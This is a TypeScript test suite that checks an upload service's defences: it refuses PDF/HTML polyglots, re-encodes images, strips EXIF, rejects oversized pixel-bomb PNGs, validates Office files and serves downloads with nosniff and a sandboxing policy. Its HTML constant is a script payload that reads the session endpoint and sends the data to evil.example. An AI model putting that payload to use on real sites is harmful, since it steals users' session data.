/**
 * Attachments are trusted by what they are, not by their first bytes: images are re-encoded under a pixel limit,
 * a PDF carrying web-page markup is refused, an Office file must be real OOXML, and every stored file that is not
 * an image is served as a download that the browser may not sniff.
 */
import { randomBytes } from 'node:crypto';
import zlib from 'node:zlib';
import JSZip from 'jszip';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildXlsx, createTestApp, nextAddress, type TestEnv } from '../../test/helper.ts';
import { MAX_IMAGE_PIXELS, readFile } from '../../platform/files.ts';
import { clueAt, createClueWorld, type ClueWorld } from './clues.factory.ts';

let env: TestEnv;
let w: ClueWorld;
let clueId: number;

beforeAll(async () => {
  env = await createTestApp();
  w = await createClueWorld(env);
  clueId = (await clueAt(env, w, 'forwarded')).id;
});
afterAll(async () => env.close());

function multipart(buf: Buffer, filename: string, field = 'file') {
  const boundary = `----xs${randomBytes(8).toString('hex')}`;
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`;
  return { body: Buffer.concat([Buffer.from(head), buf, Buffer.from(`\r\n--${boundary}--\r\n`)]), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}
const attach = (buf: Buffer, filename: string, id = clueId) => {
  const m = multipart(buf, filename);
  return w.handler.request('POST', `/api/v1/unit/clues/${id}/files`, m.body, m.headers);
};
/** What was stored for an upload (the unit may fetch it only once it is attached to a reply). */
const stored = async (fileId: number) => {
  const { row, data } = await readFile(env.db, env.app.config.dataDir, w.county.id, fileId);
  return { mime: row.mime, data };
};
const countFiles = async () => Number((await env.db.selectFrom('files').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);

/**
 * A valid one-colour PNG of any size, written by hand: 1-bit grey rows of zeros deflate to almost nothing, so a
 * 20000×20000 picture is ~50 KB and built in a fraction of a second (sharp takes ~20 s to encode one).
 */
function blankPng(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const out = Buffer.alloc(body.length + 8);
    out.writeUInt32BE(data.length, 0);
    body.copy(out, 4);
    out.writeUInt32BE(zlib.crc32(body), body.length + 4);
    return out;
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const rows = Buffer.alloc(height * (1 + Math.ceil(width / 8)));
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1A\n', 'latin1'), chunk('IHDR', ihdr), chunk('IDAT', zlib.deflateSync(rows)), chunk('IEND', Buffer.alloc(0))]);
}

const PDF = Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
const HTML = '<html><body><script>fetch("/api/v1/auth/me").then(r=>r.text()).then(t=>location="//evil.example/?"+t)</script></body></html>';

async function docx(): Promise<Buffer> {
  const zip = new JSZip();
  zip.file('[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    + '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>');
  zip.file('_rels/.rels', '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>');
  zip.file('word/document.xml', '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>');
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}

describe('reply attachments', () => {
  it('refuses a PDF+HTML polyglot and stores nothing', async () => {
    const before = await countFiles();
    for (const polyglot of [Buffer.concat([PDF, Buffer.from(HTML)]), Buffer.from(`%PDF-1.4\n%${HTML}\n1 0 obj<<>>endobj\n%%EOF\n`)]) {
      const res = await attach(polyglot, '答复函.pdf');
      expect(res.statusCode).toBe(415);
      expect(res.json()).toMatchObject({ error: 'unsupported_media_type', message: 'PDF 文件中含有网页代码，请重新导出 PDF 后上传' });
    }
    expect(await countFiles()).toBe(before);
  });

  it('stores a PNG+HTML polyglot re-encoded: the appended page is gone and the picture is the same', async () => {
    const png = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#3366cc' } }).png().toBuffer();
    const res = await attach(Buffer.concat([png, Buffer.from(HTML)]), '现场照片.png');
    expect(res.statusCode, res.body).toBe(201);
    const file = await stored(res.json().fileId);
    expect(file.mime).toBe('image/png');
    expect(file.data.includes('<script')).toBe(false);
    expect(file.data.includes('<html')).toBe(false);
    expect(await sharp(file.data).metadata()).toMatchObject({ format: 'png', width: 40, height: 30 });
  });

  it('drops the EXIF (and its GPS position) of a JPEG attachment', async () => {
    const jpeg = await sharp({ create: { width: 32, height: 32, channels: 3, background: '#808080' } })
      .withExif({ IFD0: { Make: 'TestCam', Model: 'GPS-1' } }).jpeg().toBuffer();
    expect((await sharp(jpeg).metadata()).exif).toBeDefined();
    const res = await attach(jpeg, '照片.jpg');
    expect(res.statusCode, res.body).toBe(201);
    const file = await stored(res.json().fileId);
    expect(file.mime).toBe('image/jpeg');
    expect((await sharp(file.data).metadata()).exif).toBeUndefined();
  });

  it('refuses a 20000×20000 PNG from its header, as an attachment and as a citizen\'s photo', async () => {
    const huge = blankPng(20_000, 20_000);
    expect(huge.length).toBeLessThan(200_000);
    expect(20_000 * 20_000).toBeGreaterThan(MAX_IMAGE_PIXELS);
    const before = await countFiles();
    const res = await attach(huge, '扫描件.png');
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ error: 'validation_failed', message: '图片太大：最多 5000 万像素', fields: [{ path: 'file', message: '图片超过 5000 万像素' }] });

    const m = multipart(huge, 'p.png', 'photo');
    const photo = await env.app.inject({ method: 'POST', url: `/api/v1/public/counties/${w.county.id}/uploads`, payload: m.body, headers: m.headers, remoteAddress: nextAddress() });
    expect(photo.statusCode).toBe(400);
    expect(photo.json()).toMatchObject({ error: 'validation_failed', message: '图片太大：最多 5000 万像素', fields: [{ path: 'photo', message: '图片超过 5000 万像素' }] });
    expect(await countFiles()).toBe(before);
  });

  it('takes a .docx or .xlsx only when it is an Office zip with its main part', async () => {
    const before = await countFiles();
    const xlsx = await buildXlsx([['单位', '答复'], ['县交通运输局', '已修复']]);
    const plainZip = await new JSZip().file('readme.txt', 'hello').generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
    for (const [buf, name] of [[Buffer.from('PK\x03\x04junk'), '答复.docx'], [plainZip, '答复.docx'], [plainZip, '统计.xlsx'], [xlsx, '答复.docx'], [await docx(), '统计.xlsx']] as const) {
      const res = await attach(buf, name);
      expect(res.statusCode, name).toBe(415);
      expect(res.json().message).toBe('附件只能是 PDF、图片、Word（.doc/.docx/.wps）或 Excel（.xls/.xlsx）文件');
    }
    expect(await countFiles()).toBe(before);

    const word = await attach(await docx(), '答复函.docx');
    expect(word.statusCode, word.body).toBe(201);
    const sheet = await attach(xlsx, '统计表.xlsx');
    expect(sheet.statusCode, sheet.body).toBe(201);
    expect((await stored(word.json().fileId)).mime).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    expect((await stored(sheet.json().fileId)).mime).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  });
});

describe('serving stored files', () => {
  it('serves a PDF as a download with nosniff to the unit and to staff, and images inline', async () => {
    const c = (await clueAt(env, w, 'forwarded')).id;
    const up = await attach(PDF, '答复函（最终）.pdf', c);
    expect(up.statusCode, up.body).toBe(201);
    const fileId = up.json().fileId as number;
    const png = await attach(await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000000' } }).png().toBuffer(), '图.png', c);
    const pngId = png.json().fileId as number;
    const version = (await env.db.selectFrom('clues').select('version').where('id', '=', c).executeTakeFirstOrThrow()).version;
    const reply = await w.handler.post(`/api/v1/unit/clues/${c}/transitions/reply`, { version, replyText: '经核查已修复，详见答复函。', fileIds: [fileId, pngId] });
    expect(reply.statusCode, reply.body).toBe(200);

    for (const res of [await w.handler.get(`/api/v1/unit/clues/${c}/files/${fileId}`), await w.staff.get(`/api/v1/clues/files/${fileId}`)]) {
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('application/pdf');
      expect(res.headers['content-disposition']).toBe(`attachment; filename="_______.pdf"; filename*=UTF-8''${encodeURIComponent('答复函（最终）.pdf')}`);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
      expect(res.rawPayload.equals(PDF)).toBe(true);
    }
    const image = await w.staff.get(`/api/v1/clues/files/${pngId}`);
    expect(image.headers['content-type']).toBe('image/png');
    expect(image.headers['content-disposition']).toBeUndefined();
    expect(image.headers['x-content-type-options']).toBe('nosniff');
  });
});
